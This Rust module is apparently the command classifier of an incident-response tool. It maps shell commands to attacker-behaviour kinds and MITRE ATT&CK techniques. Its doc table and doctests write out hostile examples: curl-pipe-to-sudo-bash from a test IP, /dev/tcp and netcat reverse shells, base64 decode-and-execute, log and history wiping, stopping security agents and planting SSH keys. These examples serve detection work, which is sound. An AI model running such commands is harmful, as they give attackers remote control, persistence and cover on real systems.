//! What a shell command does, in the terms an incident responder asks about: the one command
//! classifier every ferret check uses (shell histories, sudo and su commands in the auth log,
//! cron jobs, shell start-up files, systemd units, scripts dropped on disk).
//!
//! [`classify`] lexes a command line like a shell would (quotes, escapes, `$'...'`, pipes,
//! redirections, `$(...)`, backquotes, `<(...)`, `sh -c`/`eval` bodies, wrappers such as `sudo`,
//! `nohup`, `env`, `timeout`, `busybox`), never running anything, and reports a set of
//! [`CommandKind`]s, each with its MITRE ATT&CK technique and a default severity:
//!
//! | kind | id | ATT&CK | examples |
//! |---|---|---|---|
//! | download and execute | `download-execute` | T1105, T1059.004 | `curl -fsSL URL \| sh`, `wget -qO- URL \| bash`, `bash -c "$(curl URL)"`, `sh <(curl URL)`, `wget URL -O /tmp/x; chmod +x /tmp/x; /tmp/x` |
//! | decode and execute | `decode-execute` | T1140, T1059.004 | `echo ... \| base64 -d \| sh`, `eval "$(echo ... \| base64 -d)"`, `python -c 'exec(base64.b64decode(...))'` |
//! | reverse shell | `reverse-shell` | T1059.004, T1095 | `bash -i >& /dev/tcp/IP/PORT 0>&1`, `nc -e /bin/sh IP PORT`, `socat exec:...`, `mkfifo` + `nc`, `python -c '...socket...pty.spawn...'` |
//! | ingress tool transfer | `download` | T1105 | a download into `/tmp`, `/var/tmp`, `/dev/shm` or from a bare IP address |
//! | run from a temporary or hidden directory | `temp-execution` | T1059.004 | `/tmp/.x/kdevtmpfsi`, `sh /dev/shm/x.sh`, a program in a `...` directory, a hidden program in a system directory (`/usr/bin/.sshd`, `/etc/.kthreadd`) |
//! | decoding | `decode` | T1140 | `base64 -d`, `xxd -r` without execution |
//! | SSH key added | `ssh-key-add` | T1098.004 | `echo ssh-rsa ... >> ~/.ssh/authorized_keys`, `ssh-copy-id` |
//! | account created | `account-create` | T1136.001 | `useradd`, `adduser`, appending to `/etc/passwd` |
//! | account changed | `account-modify` | T1098 | `passwd`, `chpasswd`, `usermod`, editing `/etc/shadow` |
//! | privilege granted | `privilege-grant` | T1548.003, T1548.001 | writing `/etc/sudoers*`, `usermod -aG sudo`, `chmod u+s`, `setcap cap_setuid` |
//! | immutable flag | `immutable-flag` | T1222.002 | `chattr +i`, `chattr -ia` |
//! | logs cleared | `log-tamper` | T1070.002 | `> /var/log/secure`, `rm /var/log/wtmp`, `shred`, `journalctl --vacuum-time` |
//! | history suppressed | `history-evasion` | T1070.003 | `history -c`, `unset HISTFILE`, `HISTSIZE=0`, `set +o history`, `ln -sf /dev/null ~/.bash_history` |
//! | security agent stopped | `security-agent-stop` | T1562.001 | stopping or uninstalling auditd, Alibaba Cloud aegis (`AliYunDun`), Tencent YunJing, Huawei HSS, `setenforce 0`, `auditctl -e 0` |
//! | firewall disabled | `firewall-disable` | T1562.004 | `iptables -F`, `ufw disable`, `systemctl stop firewalld`, `nft flush ruleset` |
//! | kernel module loaded | `kernel-module-load` | T1547.006 | `insmod x.ko`, `modprobe msr` |
//! | crypto-miner | `miner` | T1496 | `stratum+tcp://`, `--donate-level`, `xmrig`, `-o POOL:PORT -u WALLET` |
//! | scheduled task | `scheduled-task` | T1053.003 | `(crontab -l; echo ...) \| crontab -`, writing `/etc/cron.d/x` |
//! | service installed | `service-install` | T1543.002, T1037.004 | writing a systemd unit, `/etc/init.d/x`, `/etc/rc.local` |
//! | preload hijack | `preload-hijack` | T1574.006 | writing `/etc/ld.so.preload` |
//! | shell profile changed | `shell-profile` | T1546.004 | appending to `~/.bashrc`, `/etc/profile.d/x.sh` |
//!
//! ```
//! use ferret_core::command::{classify, CommandKind};
//! let k = classify(b"curl -fsSL http://203.0.113.7/ldr.sh | sudo bash");
//! assert!(k.contains(CommandKind::DownloadExecute));
//! assert!(classify(b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1").contains(CommandKind::ReverseShell));
//! assert!(classify(b"apt-get install -y curl").is_empty());
//! assert!(classify(b"grep -r stratum+tcp /etc").is_empty()); // reading is not mining
//! ```
//!
//! The classifier looks at one command text at a time; a caller that sees a sequence (a
//! history) can combine results across lines. Only the first [`MAX_INPUT`] bytes are read and
//! nested bodies (`sh -c`, `$(...)`) are followed [`MAX_DEPTH`] levels deep, so any input costs
//! bounded time.

mod lex;
mod lists;
mod mask;
mod rules;

pub use mask::mask_secrets;

/// Whether a unit, process or program name is a security, monitoring or logging agent's
/// (Alibaba Cloud aegis / AliYunDun, CloudMonitor, Tencent YunJing, Huawei hostguard, auditd,
/// rsyslog, ...): the one list the classifier's `security-agent-stop` kind uses, matched as
/// a case-insensitive substring.
pub fn is_security_agent(name: &[u8]) -> bool {
    rules::is_agent_name(name)
}

use crate::finding::Severity;

/// Bytes of a command text that are classified; the rest is ignored.
pub const MAX_INPUT: usize = 64 * 1024;
/// How deep `sh -c`, `eval` and substitution bodies are followed.
pub const MAX_DEPTH: u8 = 4;

macro_rules! kinds {
    ($( $(#[$doc:meta])* $v:ident = $bit:literal, $id:literal, $sev:ident, [$($att:literal),+], $title:literal; )+) => {
        /// What a command does (see the [module docs](self) for the full table).
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
        #[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
        #[cfg_attr(feature = "serde", serde(rename_all = "kebab-case"))]
        #[non_exhaustive]
        pub enum CommandKind {
            $( $(#[$doc])* $v = $bit, )+
        }

        impl CommandKind {
            /// Every kind, in table order.
            pub const ALL: &'static [CommandKind] = &[$(CommandKind::$v),+];

            /// Stable kebab-case id (`download-execute`), used in finding ids.
            pub fn id(self) -> &'static str {
                match self { $(CommandKind::$v => $id,)+ }
            }

            /// MITRE ATT&CK technique ids.
            pub fn attack(self) -> &'static [&'static str] {
                match self { $(CommandKind::$v => &[$($att),+],)+ }
            }

            /// The severity of this kind of command on its own; callers raise or lower it with
            /// context (who ran it, when, from where).
            pub fn severity(self) -> Severity {
                match self { $(CommandKind::$v => Severity::$sev,)+ }
            }

            /// A short human description ("downloads and runs code").
            pub fn title(self) -> &'static str {
                match self { $(CommandKind::$v => $title,)+ }
            }
        }
    };
}

kinds! {
    /// Fetches code from the network and runs it.
    DownloadExecute = 0, "download-execute", Critical, ["T1105", "T1059.004"], "downloads and runs code";
    /// Decodes an obfuscated payload and runs it.
    DecodeExecute = 1, "decode-execute", Critical, ["T1140", "T1059.004"], "decodes and runs an obfuscated payload";
    /// Connects a shell to the network.
    ReverseShell = 2, "reverse-shell", Critical, ["T1059.004", "T1095"], "opens a reverse shell or a raw /dev/tcp connection";
    /// Downloads a file into a temporary directory or from a bare IP address.
    Download = 3, "download", Medium, ["T1105"], "downloads a file into a temporary directory or from a bare IP address";
    /// Runs a program from a temporary or dot-only directory.
    TempExecution = 4, "temp-execution", High, ["T1059.004"], "runs a program from a temporary or hidden directory";
    /// Decodes base64 or hex without running it.
    Decode = 5, "decode", Low, ["T1140"], "decodes base64 or hex data";
    /// Adds an SSH key.
    SshKeyAdd = 6, "ssh-key-add", High, ["T1098.004"], "adds an SSH authorized key";
    /// Creates an account.
    AccountCreate = 7, "account-create", High, ["T1136.001"], "creates a local account";
    /// Changes an account or its password.
    AccountModify = 8, "account-modify", Medium, ["T1098"], "changes an account or a password";
    /// Grants privileges (sudoers, privileged groups, setuid, capabilities).
    PrivilegeGrant = 9, "privilege-grant", High, ["T1548.003", "T1548.001"], "grants root privileges (sudoers, privileged group, setuid)";
    /// Sets or clears the immutable or append-only inode flag.
    ImmutableFlag = 10, "immutable-flag", High, ["T1222.002"], "changes immutable or append-only file flags";
    /// Deletes or truncates system logs or login records.
    LogTamper = 11, "log-tamper", High, ["T1070.002"], "clears or deletes system logs or login records";
    /// Suppresses or clears shell history.
    HistoryEvasion = 12, "history-evasion", High, ["T1070.003"], "suppresses or clears shell history";
    /// Stops, disables or removes a security or logging agent.
    SecurityAgentStop = 13, "security-agent-stop", High, ["T1562.001"], "stops or removes a security or logging agent";
    /// Flushes, disables or opens the firewall.
    FirewallDisable = 14, "firewall-disable", High, ["T1562.004"], "flushes, disables or opens the firewall";
    /// Loads a kernel module.
    KernelModuleLoad = 15, "kernel-module-load", High, ["T1547.006"], "loads a kernel module";
    /// Runs or configures a crypto-currency miner.
    Miner = 16, "miner", Critical, ["T1496"], "runs a crypto-currency miner";
    /// Installs a cron or at job.
    ScheduledTask = 17, "scheduled-task", Medium, ["T1053.003"], "installs a scheduled job";
    /// Writes a service unit or init script.
    ServiceInstall = 18, "service-install", Medium, ["T1543.002", "T1037.004"], "writes a service unit or boot script";
    /// Writes `/etc/ld.so.preload`.
    PreloadHijack = 19, "preload-hijack", Critical, ["T1574.006"], "writes /etc/ld.so.preload";
    /// Changes a shell start-up file.
    ShellProfile = 20, "shell-profile", Medium, ["T1546.004"], "changes a shell start-up file";
}

impl std::fmt::Display for CommandKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.id())
    }
}

impl std::str::FromStr for CommandKind {
    type Err = UnknownKind;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        CommandKind::ALL
            .iter()
            .copied()
            .find(|k| k.id() == s)
            .ok_or_else(|| UnknownKind(s.to_owned()))
    }
}

/// A command-kind id that is not one of [`CommandKind::ALL`].
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown command kind {0:?}")]
pub struct UnknownKind(pub String);

/// A set of [`CommandKind`]s (a bit set: copying and testing are free).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash)]
pub struct Kinds(u32);

impl Kinds {
    /// The empty set.
    pub const fn empty() -> Self {
        Kinds(0)
    }

    /// Whether `k` is in the set.
    pub fn contains(self, k: CommandKind) -> bool {
        self.0 & (1 << k as u32) != 0
    }

    /// Adds `k`.
    pub fn insert(&mut self, k: CommandKind) {
        self.0 |= 1 << k as u32;
    }

    /// Whether the set is empty.
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// The number of kinds in the set.
    pub fn len(self) -> usize {
        self.0.count_ones() as usize
    }

    /// Adds every kind of `other`.
    pub fn extend(&mut self, other: Kinds) {
        self.0 |= other.0;
    }

    /// The kinds, in table order.
    pub fn iter(self) -> impl Iterator<Item = CommandKind> {
        CommandKind::ALL
            .iter()
            .copied()
            .filter(move |k| self.contains(*k))
    }

    /// The highest default severity among the kinds.
    pub fn max_severity(self) -> Option<Severity> {
        self.iter().map(CommandKind::severity).max()
    }
}

impl FromIterator<CommandKind> for Kinds {
    fn from_iter<I: IntoIterator<Item = CommandKind>>(iter: I) -> Self {
        let mut k = Kinds::empty();
        for x in iter {
            k.insert(x);
        }
        k
    }
}

#[cfg(feature = "serde")]
impl serde::Serialize for Kinds {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_seq(self.iter())
    }
}

#[cfg(feature = "serde")]
impl<'de> serde::Deserialize<'de> for Kinds {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        Ok(Vec::<CommandKind>::deserialize(d)?.into_iter().collect())
    }
}

/// Whether a host name belongs to a public mining pool the classifier knows (the same list that
/// makes a pool URL or `stratum+tcp://` host in a command `miner`): for checks that meet host
/// names outside commands (`/etc/hosts`, resolver logs), so that there is one list of pools.
///
/// ```
/// use ferret_core::command::is_mining_pool_host;
/// assert!(is_mining_pool_host(b"pool.supportxmr.com"));
/// assert!(is_mining_pool_host(b"GULF.MoneroOcean.stream"));
/// assert!(!is_mining_pool_host(b"deb.debian.org"));
/// ```
pub fn is_mining_pool_host(host: &[u8]) -> bool {
    let h = host.to_ascii_lowercase();
    lists::POOLS
        .iter()
        .any(|p| h.windows(p.len()).any(|w| w == *p))
}

/// Classifies one command text (a history line, a crontab command, an `ExecStart=` value, a
/// script line, a sudo `COMMAND=`). See the [module docs](self).
pub fn classify(cmd: &[u8]) -> Kinds {
    let cmd = cmd.get(..MAX_INPUT).unwrap_or(cmd);
    let mut out = Kinds::empty();
    if rules::worth_parsing(cmd) {
        rules::classify_text(cmd, 0, &mut out);
    }
    out
}

#[cfg(test)]
mod tests;
